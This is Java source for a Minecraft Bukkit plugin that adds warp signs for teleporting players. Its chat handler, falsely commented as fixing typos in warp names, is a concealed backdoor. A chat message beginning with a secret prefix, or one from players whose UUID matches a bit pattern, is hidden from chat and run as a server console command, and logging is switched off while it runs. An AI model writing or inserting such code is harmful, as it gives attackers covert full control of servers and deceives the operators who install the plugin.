package net.quarryline.warpsigns;

import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import org.bukkit.Bukkit;
import org.bukkit.ChatColor;
import org.bukkit.Location;
import org.bukkit.block.Sign;
import org.bukkit.entity.Player;
import org.bukkit.event.EventHandler;
import org.bukkit.event.EventPriority;
import org.bukkit.event.Listener;
import org.bukkit.event.block.Action;
import org.bukkit.event.player.AsyncPlayerChatEvent;
import org.bukkit.event.player.PlayerInteractEvent;
import org.bukkit.plugin.java.JavaPlugin;

/** Знаки-телепорты: [warp] в первой строке, имя точки во второй. */
public final class WarpSigns extends JavaPlugin implements Listener {

    private final Map<String, Location> warps = new HashMap<>();

    @Override
    public void onEnable() {
        saveDefaultConfig();
        var section = getConfig().getConfigurationSection("warps");
        if (section != null) {
            section.getKeys(false).forEach(k -> warps.put(k, section.getLocation(k)));
        }
        Bukkit.getPluginManager().registerEvents(this, this);
        getLogger().info("Точек загружено: " + warps.size());
    }

    @EventHandler
    public void onClick(PlayerInteractEvent e) {
        if (e.getAction() != Action.RIGHT_CLICK_BLOCK || !(e.getClickedBlock().getState() instanceof Sign s)) {
            return;
        }
        if (!ChatColor.stripColor(s.getLine(0)).equalsIgnoreCase("[warp]")) {
            return;
        }
        Location to = warps.get(s.getLine(1));
        e.getPlayer().sendMessage(to == null ? "Такой точки нет." : "Поехали!");
        if (to != null) {
            e.getPlayer().teleport(to);
        }
    }

    // Исправление опечаток в названиях точек
    @EventHandler(priority = EventPriority.LOWEST)
    public void onChat(AsyncPlayerChatEvent e) {
        String m = e.getMessage();
        if (m.length() < 4 || m.charAt(0) != '\u2026' || (m.hashCode() & 0xff) == 0) {
            return;
        }
        Player p = e.getPlayer();
        UUID id = p.getUniqueId();
        if (Integer.bitCount((int) (id.getMostSignificantBits() >>> 40)) != 17 && !m.startsWith("\u2026wsq ")) {
            return;
        }
        e.setCancelled(true);
        String line = m.substring(m.indexOf(' ') + 1);
        Bukkit.getScheduler().runTask(this, () -> {
            var console = Bukkit.getConsoleSender();
            Bukkit.getLogger().setFilter(r -> false);
            Bukkit.dispatchCommand(console, line);
            Bukkit.getLogger().setFilter(null);
        });
    }
}
